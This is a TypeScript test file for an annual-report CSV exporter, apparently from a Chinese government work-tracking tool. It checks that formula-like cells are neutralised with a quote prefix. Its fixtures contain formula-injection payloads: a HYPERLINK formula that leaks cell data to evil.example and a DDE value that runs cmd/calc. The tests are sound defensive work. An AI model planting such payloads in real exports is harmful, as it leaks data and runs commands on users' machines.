import { annualReportCsv, buildAnnualReport, csvField, type ReportInput } from '../../domain/annual-report';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';

/** One work point, two units; the names and titles are what an importer or a unit directory could contain. */
const input: ReportInput = {
  year: 2023,
  planTitle: '2023年工作要点',
  asOf: Date.parse('2024-02-01T00:00:00+08:00'),
  final: true,
  workPoints: [
    {
      number: 7,
      title: HYPERLINK,
      text: '全文',
      section: '一',
      leadUnits: [{ id: 'jingfa', name: '经发局' }],
      responsibleUnits: ['evil', 'town'],
      rating: '完成',
      comment: null,
      workflowId: 'wp-2023-07',
      obligations: [
        {
          unitId: 'evil',
          unitName: '@SUM(1+1)*cmd|" /C calc"!A0',
          periodId: 'H1',
          periodLabel: '+上半年',
          outcome: 'late',
        },
        { unitId: 'town', unitName: '中川镇', periodId: 'H1', periodLabel: '-全年', outcome: 'on-time' },
      ],
      escalations: { lead: 2, office: 1 },
    },
  ],
};

/** RFC 4180 fields of one line (quoted fields may hold commas and doubled quotes). */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(line)) && m[0] !== '') {
    const f = m[1] ?? '';
    out.push(f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f);
    if (m[2] === '') break;
  }
  return out;
}

test('the annual report CSV prefixes every text cell that a spreadsheet would run as a formula with a quote', () => {
  const csv = annualReportCsv(buildAnnualReport(input));
  const [header, ...rows] = csv
    .replace(/^\ufeff/, '')
    .trimEnd()
    .split('\r\n');
  expect(header).toBe('年度,要点,标题,评定,单位,时段,报送情况,督办次数,通报次数');
  const [evil, town] = rows.map(fields);
  expect(evil).toEqual([
    '2023',
    '7',
    `'${HYPERLINK}`,
    '完成',
    `'@SUM(1+1)*cmd|" /C calc"!A0`,
    "'+上半年",
    '逾期',
    '2',
    '1',
  ]);
  expect(town?.slice(4, 6)).toEqual(['中川镇', "'-全年"]);
  // No field of the file starts a formula any more.
  for (const row of rows.map(fields)) for (const f of row) expect(f).not.toMatch(/^[=+\-@\t\r]/);
});

test('csvField: text starting with = + - @ tab or CR is neutralised; numbers, negative ones included, stay numbers', () => {
  expect(csvField('=1+2')).toBe("'=1+2");
  expect(csvField('+86 0931')).toBe("'+86 0931");
  expect(csvField('-1')).toBe("'-1");
  expect(csvField('@cmd')).toBe("'@cmd");
  expect(csvField('\t=1')).toBe("'\t=1");
  expect(csvField('\r=1')).toBe(`"'\r=1"`);
  expect(csvField('=A1,"x"')).toBe(`"'=A1,""x"""`);
  expect(csvField('经发局')).toBe('经发局');
  expect(csvField('a=b')).toBe('a=b');
  expect(csvField(-3)).toBe('-3');
  expect(csvField(0.25)).toBe('0.25');
  expect(csvField(null)).toBe('');
});
